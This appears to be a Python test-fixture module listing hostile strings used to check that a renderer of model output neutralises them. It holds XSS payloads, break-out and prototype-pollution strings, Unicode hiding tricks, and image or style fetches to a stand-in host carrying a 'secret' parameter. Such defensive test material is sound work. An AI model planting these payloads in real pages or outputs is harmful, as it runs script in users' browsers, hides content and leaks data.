"""Texts by which a model might try to run, to break out, to hide or to fetch something.

What would run sets ``window.hit``; what would fetch asks for ``hostile.invalid``.
"""

from __future__ import annotations

HOSTILE = {
    # to run
    "script": "<script>window.hit='script'</script>",
    "script, upper case": "<SCRIPT SRC=//hostile.invalid/x.js></SCRIPT>",
    "image": "<img src=x onerror=\"window.hit='image'\">",
    "image without quotes": "<img/src=x/onerror=window.hit=1>",
    "svg": "<svg onload=\"window.hit='svg'\"><script>window.hit=1</script></svg>",
    "svg animation": "<svg><animate onbegin=window.hit=1 attributeName=x dur=1s></svg>",
    "MathML": '<math><mtext></form><form><mglyph><style></math><img src onerror="window.hit=1">',
    "details": "<details open ontoggle=\"window.hit='details'\">",
    "autofocus": "<input autofocus onfocus=\"window.hit='focus'\">",
    "body": '<body onload="window.hit=1"><marquee onstart="window.hit=1">',
    "video": '<video><source onerror="window.hit=1"></video><audio src onerror=window.hit=1>',
    "frame": "<iframe srcdoc=\"<script>parent.hit='frame'</script>\"></iframe>",
    "frame of a script": '<iframe src="javascript:parent.hit=1"></iframe>',
    "object": '<object data="javascript:window.hit=1"></object><embed src="javascript:hit=1">',
    "link": "[press](javascript:window.hit='link') <a href=\"javascript:window.hit=1\">a</a>",
    "link of data": '<a href="data:text/html,<script>opener.hit=1</script>" target=_blank>b</a>',
    "data URL": "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGl0PTE8L3NjcmlwdD4=",
    "template": "${window.hit='template'} {{constructor.constructor('window.hit=1')()}}",
    "entities": "&lt;img src=x onerror=hit=1&gt; &#60;script&#62;window.hit=1&#60;/script&#62;",
    "escapes": "\\u003cscript\\u003ewindow.hit=1\\u003c/script\\u003e \\x3cimg\\x3e",
    # to break out of where it stands
    "end of a script": "</script><script>window.hit='out'</script>",
    "end of a script, with blanks": "</script\t\n><img src=x onerror=window.hit=1>",
    "comment": "<!--<script>window.hit=1</script>--> <!-- never closed",
    "two comments": "<!-- <script> --!> </script>",
    "CDATA": "<![CDATA[<script>window.hit=1</script>]]>",
    "end of everything": "</textarea></pre></div></section></main></body></html><h1>out</h1>",
    "unclosed": '<div class="row"><table><tr><td><b><i><u><a href="',
    "fences": "```html\n````\n<b>bold</b>\n```\n</script></style><!--",
    "JSON": '"},{"turn_id":"x"}],"error":{"code":"failed"},"\\',
    "line separators": "one\u2028two\u2029three\x85four",
    "prototype": '{"__proto__": {"hit": 1}, "constructor": {"prototype": {"hit": 1}}}',
    "prototype's keys": "__proto__ constructor toString hasOwnProperty",
    # to hide other text, or to look like something else
    "style": "</style><style>* { display: none !important }</style>",
    "style of an element": '<div style="position:fixed;inset:0;background:#fff;z-index:9999">',
    "import of styles": "<style>@import 'https://hostile.invalid/x.css'</style>",
    "turned": "\u202eevil\u202c \u2066mixed\u2069 \u200fשלום \u202d never closed",
    "hidden": "zero\u200bwidth\u200djoined\ufeffmark\u00ad\u2060\u180e",
    "tags of Unicode": "flag\U000e0068\U000e0069\U000e007f",
    "combining": "Z" + "\u0301\u0320" * 200 + "algo",
    "colours": "\x1b[31mred\x1b[0m \x07 \x08 \x0c \x1b]8;;https://hostile.invalid\x07link\x1b]8;;\x07",
    "carriage returns": "all of this\r\rgone\b\b\b\b",
    "wide": "\ufdfd" * 40,
    "tall": "\n" * 3000 + "below",
    "nul": "before\x00after",
    # to fetch
    "markdown image": "![x](https://hostile.invalid/pixel.png?secret=1)",
    "HTML image": '<img src="https://hostile.invalid/x.png"><link rel=icon href=//x.invalid>',
    "meta": '<meta http-equiv=refresh content="0;url=//x.invalid"><base href=//x.invalid>',
    "mermaid": '```mermaid\ngraph TD\nA["<img src onerror=hit=1>"]\nclick A "javascript:h"\n```',
    "maths": "$$\\href{javascript:window.hit=1}{x}$$ \\(\\unicode{x3c}\\)",
    # to weigh
    "long": "x" * 4000,
    "a line of a megabyte": "word" * 250_000,
    "format": "%s %n {0} {question} \\u0000 \\x3cb\\x3e",
}
"""Name of the trick to the text."""
